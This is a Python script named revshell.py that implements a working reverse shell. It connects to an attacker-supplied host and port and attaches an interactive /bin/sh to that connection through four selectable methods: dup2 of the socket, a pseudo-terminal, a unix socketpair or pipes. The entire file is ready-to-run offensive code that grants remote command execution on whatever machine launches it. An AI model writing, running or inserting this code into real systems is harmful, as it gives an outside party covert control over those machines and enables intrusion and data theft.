"""A shell that calls home: `revshell.py HOST PORT dup|pipes|pty|unix`, by how its streams are joined."""

import os
import pty
import select
import socket
import subprocess
import sys

host, port, way = sys.argv[1], int(sys.argv[2]), sys.argv[3]
home = socket.create_connection((host, port), timeout=5)
home.settimeout(8)


def carry(read: int, write: int) -> None:
    """Between the connection and a shell behind file descriptors, until one ends."""
    while True:
        ready, _, _ = select.select([home.fileno(), read], [], [], 8)
        if not ready:
            return
        if home.fileno() in ready:
            data = home.recv(4096)
            if not data:
                return
            os.write(write, data)
        if read in ready:
            data = os.read(read, 4096)
            if not data:
                return
            home.sendall(data)


if way == "dup":
    for number in range(3):
        os.dup2(home.fileno(), number)
    os.execv("/bin/sh", ["sh", "-i"])
elif way == "pty":
    pid, master = pty.fork()
    if pid == 0:
        os.execv("/bin/sh", ["sh", "-i"])
    carry(master, master)
elif way == "unix":
    here, there = socket.socketpair()
    subprocess.Popen(["/bin/sh"], stdin=there.fileno(), stdout=there.fileno(), stderr=there.fileno())
    there.close()
    carry(here.fileno(), here.fileno())
else:
    shell = subprocess.Popen(
        ["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    assert shell.stdin is not None and shell.stdout is not None
    carry(shell.stdout.fileno(), shell.stdin.fileno())
